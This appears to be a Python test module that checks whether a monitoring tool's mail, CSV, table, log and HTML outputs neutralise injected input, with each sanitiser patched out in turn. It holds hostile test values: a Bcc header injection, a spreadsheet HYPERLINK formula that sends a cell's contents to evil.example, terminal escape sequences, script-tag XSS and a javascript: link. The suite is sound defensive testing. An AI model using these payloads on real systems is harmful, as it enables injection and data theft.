"""Try to put into mails, tables, pages and logs what is not text."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path

from listener import logs
from listener.cli import output
from listener.logs import configure, event
from output.samples import UNTIL, make_episode, make_row, make_trend
from reports import message, render
from reports.digest import BrandSection
from reports.message import eml_bytes
from reports.page import PageData, render_page
from reports.render import render_alert
from safety.case import Case, Patch, passing_through

TEMPLATES = render.templates


def second_header(_patch: Patch, _folder: Path) -> bool:
    subject = "Acme\r\nBcc: all@example.org\r\n\r\nhello"
    sent = render_alert(make_episode(), sentence="x")
    made = type(sent)(key="k", kind="alert", subject=subject, text="t")
    try:
        data = eml_bytes(made, "listener@example.org", ["team@example.org"], date=UNTIL)
    except ValueError:  # the mail library's own guard: nothing is sent at all, which is harm enough
        return True
    return b"\nBcc:" in data.partition(b"\r\n\r\n")[0]


def formula(_patch: Patch, _folder: Path) -> bool:
    out = io.StringIO()
    output.emit_rows([{"text": '=HYPERLINK("https://evil.example?"&A1)'}], ("text",), "csv", stream=out)
    return list(csv.reader(io.StringIO(out.getvalue())))[1][0].startswith("=")


def escape_in_table(_patch: Patch, _folder: Path) -> bool:
    out = io.StringIO()
    output.emit_rows([{"text": "\x1b[2Jacme\x9b31m\u202e"}], ("text",), "table", stream=out)
    return any(sign in out.getvalue() for sign in "\x1b\x9b\u202e")


def escape_in_log(_patch: Patch, _folder: Path) -> bool:
    import logging

    out = io.StringIO()
    configure("text", "info", out)
    event(logging.getLogger("listener.safety"), "page saved", lane="\x1b[2Jstopped\x9b31m")
    return any(sign in out.getvalue() for sign in "\x1b\x9b")


SCRIPT = "</p><script>alert(1)</script>"


def script_in_mail(_patch: Patch, _folder: Path) -> bool:
    sent = render_alert(
        make_episode(terms=(SCRIPT,)), sentence=SCRIPT, mentions=[make_row(1, SCRIPT, author_name=SCRIPT)]
    )
    return "<script>alert" in (sent.html or "")


def script_in_page(_patch: Patch, _folder: Path) -> bool:
    section = BrandSection(brand=SCRIPT, kind="own", trend=make_trend(SCRIPT, days=1, by="hour"))
    data = PageData(
        section=section,
        since=UNTIL - timedelta(days=1),
        until=UNTIL,
        time_zone="UTC",
        made_at=UNTIL,
        trend=section.trend,
        mentions=(make_row(1, SCRIPT, author_name=SCRIPT),),
    )
    return "<script>alert" in render_page(data)


def without_escaping(patch: Patch) -> None:
    TEMPLATES.cache_clear()
    environment = TEMPLATES()
    environment.autoescape = False
    environment.cache.clear()  # type: ignore[union-attr]
    patch.setattr(render, "templates", lambda: environment)
    patch.setattr("reports.page.templates", lambda: environment)


def script_as_link(_patch: Patch, _folder: Path) -> bool:
    sent = render_alert(make_episode(), sentence="x", mentions=[make_row(1, "acme", url="javascript:alert(1)")])
    return 'href="javascript:' in (sent.html or "")


CASES = (
    Case(name="a header in a subject", harm=second_header, remove=passing_through(message, "clean_line")),
    Case(name="a formula in CSV", harm=formula, remove=passing_through(output, "_csv_text")),
    Case(name="an escape in a table", harm=escape_in_table, remove=passing_through(output, "neutralise")),
    Case(name="an escape in the log", harm=escape_in_log, remove=passing_through(logs, "_one_line")),
    Case(name="a script in a mail", harm=script_in_mail, remove=without_escaping),
    Case(name="a script in the page", harm=script_in_page, remove=without_escaping),
    Case(name="a script as a link", harm=script_as_link, remove=passing_through(render, "web_link")),
)
